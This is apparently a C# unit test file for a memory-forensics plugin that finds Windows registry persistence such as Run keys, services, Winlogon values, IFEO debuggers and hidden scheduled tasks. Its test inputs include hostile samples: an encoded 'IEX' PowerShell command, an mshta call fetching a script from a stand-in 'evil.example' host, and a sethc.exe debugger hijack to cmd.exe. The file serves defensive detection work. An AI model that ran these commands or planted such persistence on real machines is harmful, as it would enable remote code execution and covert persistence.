using System.Text;
using CloudMem.Engine.Windows;
using CloudMem.ImageBuilder;
using CloudMem.Tests.Support;
using CloudMem.VmStateParsers;
using Xunit.Abstractions;

namespace CloudMem.Tests.Windows;

/// <summary>
/// windows.registry.persistence on the "registry" scenario's hives (Run keys machine, Wow6432Node and per user, services
/// with a svchost ServiceDll, Winlogon, an IFEO debugger, a scheduled task hidden from the tree) laid out as the kernel
/// holds them, against the planted values; and its rules and Actions decoding on their own.
/// </summary>
public sealed class WindowsPersistenceTests(WindowsRegistryImages images, ITestOutputHelper output) : IClassFixture<WindowsRegistryImages>
{
    [SkippableTheory]
    [InlineData(WindowsSymbols.Win10)]
    [InlineData(WindowsSymbols.Win7)]
    [InlineData(WindowsSymbols.Win11)]
    public void Persistence_lists_every_planted_autostart_entry_and_flags_the_malicious_ones(string guid)
    {
        WindowsRegistryImages.Built built = images.Get(guid);
        WindowsKernel kernel = WindowsRegistryImages.Open(built, out RunMappedMemory memory);
        using (memory)
        {
            var report = WindowsPersistence.Persistence(kernel);
            WindowsRegistryImages.Print(output, report);
            Assert.Equal(["1 service(s) that start on demand or are disabled, with nothing suspicious, are not listed"], report.Notes);
            const string Run = @"Microsoft\Windows\CurrentVersion\Run";
            const string Nt = @"Microsoft\Windows NT\CurrentVersion";
            (PersistenceKind, string, string?, string?, bool)[] expected =
            [
                (PersistenceKind.Run, Run, "SecurityHealth", @"%windir%\system32\SecurityHealthSystray.exe", false),
                (PersistenceKind.Run, Run, "Updater", @"C:\Users\Public\update.exe", true),
                (PersistenceKind.IfeoDebugger, $@"{Nt}\Image File Execution Options\sethc.exe", "Debugger", @"C:\Windows\System32\cmd.exe", true),
                (PersistenceKind.Run, @"Wow6432Node\" + Run, "AdobeHelper", RegistryScenario.EncodedPowerShell, true),
                (PersistenceKind.WinlogonShell, $@"{Nt}\Winlogon", "Shell", "explorer.exe", false),
                (PersistenceKind.WinlogonUserinit, $@"{Nt}\Winlogon", "Userinit", @"C:\Windows\system32\userinit.exe,", false),
                (PersistenceKind.ScheduledTask, $@"{RegistryScenario.TaskCache}\Tasks\{RegistryScenario.ScanTaskId}", @"\Microsoft\Windows\UpdateOrchestrator\Schedule Scan",
                    @"%systemroot%\system32\usoclient.exe StartScan", false),
                (PersistenceKind.ScheduledTask, $@"{RegistryScenario.TaskCache}\Tasks\{RegistryScenario.HiddenTaskId}", @"\SystemHealthCheck",
                    RegistryScenario.HiddenTaskCommand + " -silent", true),
                (PersistenceKind.Run, @"Software\" + Run, "OneDriveSync", @"C:\Users\alice\AppData\Roaming\sync.exe -bg", true),
                (PersistenceKind.Service, @"ControlSet001\Services\EvilDll", "ImagePath", @"%SystemRoot%\system32\svchost.exe -k netsvcs", true),
                (PersistenceKind.Service, @"ControlSet001\Services\EvilSvc", "ImagePath", @"%SystemRoot%\Temp\evilsvc.exe", true),
                (PersistenceKind.Service, @"ControlSet001\Services\Tcpip", "ImagePath", @"System32\drivers\tcpip.sys", false),
            ];
            Assert.Equal(expected, report.Rows.Select(r => (r.Kind, r.KeyPath, r.ValueName, r.Data, r.Suspicious)));
            Assert.All(report.Rows, r => Assert.Null(r.Doubt));
            Assert.All(report.Rows, r => Assert.NotNull(r.LastWriteTime));
            Assert.All(report.Rows, r => Assert.Equal(r.Suspicious, r.Reason is not null));

            // Which hive each row came from: SOFTWARE, NTUSER.DAT, SYSTEM (manifest order 1, 3, 0).
            ulong[] hives = [.. built.Manifest.Hives!.Select(h => h.Address)];
            Assert.Equal([.. Enumerable.Repeat(hives[1], 8), hives[3], hives[0], hives[0], hives[0]], report.Rows.Select(r => r.HiveOffset));
            Assert.Equal($@"\REGISTRY\USER\{RegistryScenario.AliceSid}", report.Rows[8].Hive);

            PersistenceRow Of(string value) => Assert.Single(report.Rows, r => r.ValueName == value || r.KeyPath.EndsWith(value, StringComparison.Ordinal));
            Assert.Equal("runs from a user-writable directory (Users\\Public)", Of("Updater").Reason);
            Assert.Equal("an IFEO Debugger runs instead of sethc.exe", Of("Debugger").Reason);
            Assert.Equal("encoded PowerShell command", Of("AdobeHelper").Reason);
            Assert.Equal(@"its TaskCache\Tree key (\SystemHealthCheck) has no SD value (hidden from the scheduler's listing); runs from a user-writable directory (ProgramData)",
                Of(@"\SystemHealthCheck").Reason);
            PersistenceRow dll = Of("EvilDll");
            Assert.Equal((ServiceStartType.Automatic, ServiceTypes.Win32ShareProcess, RegistryScenario.EvilServiceDll, "ServiceDll: runs from a user-writable directory (ProgramData)"),
                (dll.StartType!.Value, dll.ServiceType!.Value, dll.ServiceDll, dll.Reason));
            PersistenceRow tcpip = Of("Tcpip");
            Assert.Equal((ServiceStartType.Boot, ServiceTypes.KernelDriver, (string?)null), (tcpip.StartType!.Value, tcpip.ServiceType!.Value, tcpip.ServiceDll));
        }
    }

    [Theory]
    [InlineData(@"C:\Users\Public\update.exe", "runs from a user-writable directory (Users\\Public)")]
    [InlineData(@"C:\Users\bob\AppData\Local\Temp\x.exe", "runs from a user-writable directory (AppData)")]
    [InlineData(@"cmd /c %TEMP%\a.bat", "runs from a user-writable directory (TEMP)")]
    [InlineData("powershell -EncodedCommand SQBFAFgAIAAoAE4A", "encoded PowerShell command")]
    [InlineData("pwsh.exe -e SQBFAFgAIAAoAE4A", "encoded PowerShell command")]
    [InlineData("powershell -c [Convert]::FromBase64String('aGk=')", "encoded PowerShell command")]
    [InlineData("mshta https://evil.example/a.hta", "a URL in the command")]
    [InlineData(@"C:\Program Files\Vendor\agent.exe --service", null)]
    [InlineData(@"%SystemRoot%\system32\svchost.exe -k netsvcs -p", null)]
    [InlineData("powershell -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1", null)]
    public void Judge_flags_plain_signs_of_abuse_only(string command, string? reason) => Assert.Equal(reason, WindowsPersistence.Judge(command));

    [Theory]
    [InlineData("explorer.exe", null)]
    [InlineData(@"C:\Windows\explorer.exe", null)]
    [InlineData(@"explorer.exe, C:\Users\Public\x.exe", "Winlogon Shell is not explorer.exe")]
    [InlineData("cmd.exe", "Winlogon Shell is not explorer.exe")]
    public void A_non_default_winlogon_shell_is_named(string shell, string? reason) => Assert.Equal(reason, WindowsPersistence.NonDefaultShell(shell));

    [Theory]
    [InlineData(@"C:\Windows\system32\userinit.exe,", null)]
    [InlineData("userinit.exe", null)]
    [InlineData(@"C:\Windows\system32\userinit.exe,C:\Users\Public\evil.exe,", "Winlogon Userinit runs more than system32\\userinit.exe")]
    [InlineData(@"C:\Temp\userinit.exe", "Winlogon Userinit runs more than system32\\userinit.exe")]
    public void A_non_default_userinit_is_named(string userinit, string? reason) => Assert.Equal(reason, WindowsPersistence.NonDefaultUserinit(userinit));

    [Fact]
    public void Actions_blobs_decode_exec_and_com_actions_and_say_why_a_cut_one_does_not()
    {
        Assert.Equal(@"C:\a.exe -x", WindowsPersistence.DecodeActions(RegistryScenario.TaskActions("Author", @"C:\a.exe", "-x"), out string? why));
        Assert.Null(why);
        // Version 1 (no context, no flags), a COM handler after an exec action.
        var blob = new List<byte>(BitConverter.GetBytes((ushort)1));
        void Text(string s)
        {
            blob.AddRange(BitConverter.GetBytes(Encoding.Unicode.GetByteCount(s)));
            blob.AddRange(Encoding.Unicode.GetBytes(s));
        }
        blob.AddRange(BitConverter.GetBytes((ushort)0x6666));
        Text("");
        Text("run.exe");
        Text("");
        Text(@"C:\");
        blob.AddRange(BitConverter.GetBytes((ushort)0x7777));
        Text("");
        var clsid = new Guid("0f87369f-a4e5-4cfc-bd3e-73e6154572dd");
        blob.AddRange(clsid.ToByteArray());
        Text("data");
        Assert.Equal("run.exe | COM {0f87369f-a4e5-4cfc-bd3e-73e6154572dd} data", WindowsPersistence.DecodeActions([.. blob], out why));
        Assert.Null(why);
        byte[] cut = RegistryScenario.TaskActions("Author", @"C:\a.exe", "-x")[..^8];
        WindowsPersistence.DecodeActions(cut, out why);
        Assert.Equal("action 1 is cut short", why);
        Assert.Null(WindowsPersistence.DecodeActions([3, 0], out why));
        Assert.Equal("shorter than its header", why);
        Assert.Null(WindowsPersistence.DecodeActions([3, 0, 0, 0, 0, 0, 0x34, 0x12, 0, 0, 0, 0], out why));
        Assert.Equal("unknown action type 0x1234", why);
    }
}
